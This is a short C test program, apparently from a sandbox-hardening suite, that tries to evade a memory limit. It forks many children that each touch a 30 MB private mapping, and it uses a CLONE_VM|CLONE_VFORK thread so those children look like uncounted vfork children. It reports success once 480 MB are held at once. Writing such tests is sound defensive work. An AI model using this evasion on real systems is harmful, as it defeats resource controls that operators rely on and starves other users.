// tries: keep memory in copies that look like children of vfork, which are not counted for as long as they are young
// allowed: memory_limit
// limit: memory
// vm
#define _GNU_SOURCE
#include "attack.h"
#include <pthread.h>
#include <sched.h>
static const size_t len = 30 << 20;
static int rest(void *unused)
{
	(void)unused;
	for (;;)
		pause();
}
static void *look_like_vfork(void *unused)
{
	static char stack[65536];
	clone(rest, stack + sizeof(stack), CLONE_VM | CLONE_VFORK | SIGCHLD, NULL);
	return unused;
}
int main(void)
{
	char *data = (char *)mmap(NULL, len, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	touch(data, len);
	pthread_t thread;
	pthread_create(&thread, NULL, look_like_vfork, NULL);
	int ends[2];
	if (pipe(ends))
		return 1;
	signal(SIGCHLD, SIG_IGN);
	for (int alive = 0, most = 0;;) {
		if (fork() == 0) {
			touch(data, len);
			if (write(ends[1], "+", 1) != 1)
				_exit(1);
			usleep(80000);
			_exit(write(ends[1], "-", 1) != 1);
		}
		usleep(5000);
		char said;
		for (fcntl(ends[0], F_SETFL, O_NONBLOCK); read(ends[0], &said, 1) == 1;)
			alive += said == '+' ? 1 : -1;
		if (alive > most)
			most = alive;
		if (most == 16) {
			worked("480 MB at once");
			most = 1000;
		}
	}
}
